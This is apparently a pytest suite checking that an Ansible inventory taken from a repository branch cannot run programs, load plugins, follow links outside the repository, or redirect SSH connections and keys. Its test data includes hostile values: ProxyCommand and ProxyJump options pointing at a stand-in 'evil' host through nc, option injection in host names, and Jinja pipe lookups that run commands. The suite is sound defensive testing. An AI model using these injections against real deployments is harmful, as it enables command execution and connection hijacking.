"""An inventory of a branch cannot run a program, nor lead the environment's key elsewhere than the configuration says."""

from __future__ import annotations

import getpass
from typing import TYPE_CHECKING, Any

import pytest

from runners.errors import AccessDeniedError, NotFoundError, RunnerError
from runners.results import HostSettings
from runners.ssh import host_keys
from tests.real.own_inventory_support import SSH, put, read
from tests.real.ssh_support import make_key, running_servers
from tests.real.test_ansible import Playbooks, playbooks

if TYPE_CHECKING:
    from pathlib import Path

pytestmark = pytest.mark.needs_bwrap
__all__ = ["playbooks"]


@pytest.mark.parametrize(
    "variable",
    [
        "ansible_ssh_common_args='-o ProxyJump=evil'",
        "ansible_ssh_extra_args='-o \"proxycommand nc evil 22\"'",
        "ansible_ssh_args='-F /dev/null'",
        "ansible_ssh_extra_args='-J evil'",
        "ansible_ssh_executable=./ssh",
        "ansible_ssh_transfer_method=piped",
        "ansible_sftp_executable=./sftp",
        "ansible_control_path=/tmp/x",
        "ansible_connection=local",
        "ansible_connection=paramiko_ssh",
        "ansible_user=root",
        "ansible_ssh_user=root",
        "ansible_port=0",
        "ansible_ssh_port='22 -F x'",
        "ansible_password=x",
        "ansible_host='-oProxyCommand=id'",
        'ansible_host=\'{{ lookup("pipe", "id") }}\'',
        'ansible_user=\'{{ lookup("pipe", "id") }}\'',
    ],
)
async def test_a_variable_that_changes_the_connection_is_refused(playbooks: Playbooks, variable: str) -> None:
    put(playbooks, "hosts", f"[web]\nweb1 {variable}\n")
    with pytest.raises(AccessDeniedError, match="web1"):
        await read(playbooks, "web")


@pytest.mark.parametrize(
    "file",
    [
        "inventory/group_vars/all.yml",
        "inventory/group_vars/web/x.json",
        "inventory/host_vars/web1",
        "group_vars/web.yml",
        "host_vars/web1.yaml",
    ],
)
async def test_wherever_it_is_written(playbooks: Playbooks, file: str) -> None:
    put(playbooks, "inventory/hosts", "[web]\nweb1\n")
    put(playbooks, file, '{"ansible_ssh_args": "-o StrictHostKeyChecking=no"}')
    with pytest.raises(AccessDeniedError, match="web1 has the variable ansible_ssh_args"):
        await read(playbooks, "web", source="inventory")


async def test_also_of_a_host_that_is_in_no_role(playbooks: Playbooks) -> None:
    """A task may be delegated to it."""
    put(playbooks, "hosts", "[web]\nweb1\n[other]\nother1 ansible_ssh_args='-F x'\n")
    with pytest.raises(AccessDeniedError, match="other1"):
        await read(playbooks, "web")


@pytest.mark.parametrize("name", ["hosts", "inventory/hosts", "inventory/more.yml"])
async def test_a_program_is_not_run(playbooks: Playbooks, tmp_path: Path, name: str) -> None:
    put(playbooks, "inventory/static", "[web]\nweb1\n")
    put(playbooks, name, f"#!/bin/sh\ntouch {tmp_path}/ran\necho '{{}}'\n")
    (playbooks.project / name).chmod(0o755)
    with pytest.raises(AccessDeniedError, match="is a program"):
        await read(playbooks, "web", source=name.partition("/")[0])
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize(
    "text",
    [
        "plugin: ansible.builtin.generator\nhosts: {name: web1}\n",
        "plugin: ansible.builtin.constructed\ngroups: {web: \"lookup('pipe', 'touch %s/ran')\"}\n",
        "plugin: amazon.aws.aws_ec2\nregions: [us-east-1]\n",
    ],
)
async def test_a_plugin_is_not_used(playbooks: Playbooks, tmp_path: Path, text: str) -> None:
    put(playbooks, "inventory/a_static", "[web]\nweb1\n")
    put(playbooks, "inventory/b_aws_ec2.yml", text.replace("%s", str(tmp_path)))
    with pytest.raises(RunnerError, match="inventory"):
        await read(playbooks, "web", source="inventory")
    assert not (tmp_path / "ran").exists()


async def test_settings_of_the_repository_enable_no_program(playbooks: Playbooks, tmp_path: Path) -> None:
    put(playbooks, "ansible.cfg", "[inventory]\nenable_plugins = script, auto\nunparsed_is_failed = false\n")
    put(playbooks, "hosts", f"touch {tmp_path}/ran\n")
    (playbooks.project / "hosts").chmod(0o755)
    with pytest.raises(RunnerError):
        await read(playbooks, "web")
    assert not (tmp_path / "ran").exists()


async def test_a_link_out_of_the_repository_is_not_read(playbooks: Playbooks, tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("[web]\nweb1\n")
    (playbooks.project / "hosts").symlink_to(tmp_path / "secret")
    with pytest.raises(AccessDeniedError, match="leads outside"):
        await read(playbooks, "web")


@pytest.mark.parametrize("host", ["'web,evil'", "'web:evil'", "'~.*'", "'@file'", "'-oProxyCommand=id'", "'we b'"])
async def test_a_name_that_is_a_pattern_is_refused(playbooks: Playbooks, host: str) -> None:
    put(playbooks, "hosts.yml", f"web: {{hosts: {{{host}: {{}}}}}}\n")
    with pytest.raises((AccessDeniedError, RunnerError)):
        await read(playbooks, "web", source="hosts.yml")


async def test_localhost_is_here_and_no_host_of_a_role(playbooks: Playbooks) -> None:
    put(playbooks, "hosts", "localhost ansible_connection=local\n[web]\nlocalhost\nweb1\n")
    inventory = await read(playbooks, "web", reach=SSH)
    assert [host.name for host in inventory.hosts] == ["web1"]
    put(playbooks, "hosts", "localhost ansible_connection=local ansible_python_interpreter=python3\n")
    with pytest.raises(NotFoundError, match="has only localhost in the group `all`"):
        await read(playbooks, "all")


CARELESS = """\
    [web]
    web1 ansible_host=127.0.0.1 ansible_port={port} ansible_user={user}
    [web:vars]
    ansible_ssh_common_args=-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null
    ansible_ssh_extra_args=-o GlobalKnownHostsFile=/dev/null -o ForwardAgent=yes
    ansible_ssh_private_key_file={directory}/no-key
    ansible_host_key_checking=false
    """
RAW = "- hosts: web\n  gather_facts: false\n  tasks:\n    - ansible.builtin.raw: touch {directory}/here\n"


@pytest.mark.slow("a server, and Ansible five times")
@pytest.mark.needs_sshd
async def test_key_and_host_key_are_those_of_signalbox_whatever_it_says(
    playbooks: Playbooks, tmp_path: Path, unused_tcp_port: int
) -> None:
    user = getpass.getuser()
    put(playbooks, "hosts", CARELESS.format(port=unused_tcp_port, user=user, directory=tmp_path))
    put(playbooks, "deploy.yml", RAW.format(directory=tmp_path))
    inventory = await read(playbooks, "web", reach=HostSettings(user))
    assert inventory.ignored == (
        "ansible_host_key_checking",
        "ansible_ssh_common_args",
        "ansible_ssh_extra_args",
        "ansible_ssh_private_key_file",
    )
    async with running_servers(tmp_path, unused_tcp_port, ["127.0.0.1"]) as (server,):
        scanned = await host_keys.scan(inventory, tmp_path)
        assert host_keys.known_hosts(inventory, scanned).split()[:3] == server.known_hosts.split()[:3]
        given: dict[str, Any] = {"inventory": inventory, "private_key": server.user_key, "limit": "web1"}
        make_key(tmp_path / "other")
        other = f"[127.0.0.1]:{unused_tcp_port} {(tmp_path / 'other.pub').read_text()}"
        for number, keys in enumerate((other, "", server.known_hosts)):
            job = playbooks.job(known_hosts=keys, scratch=tmp_path / f"scratch-{number}", **given)
            result = await playbooks.run(job)
            assert (tmp_path / "here").exists() is (keys == server.known_hosts), result
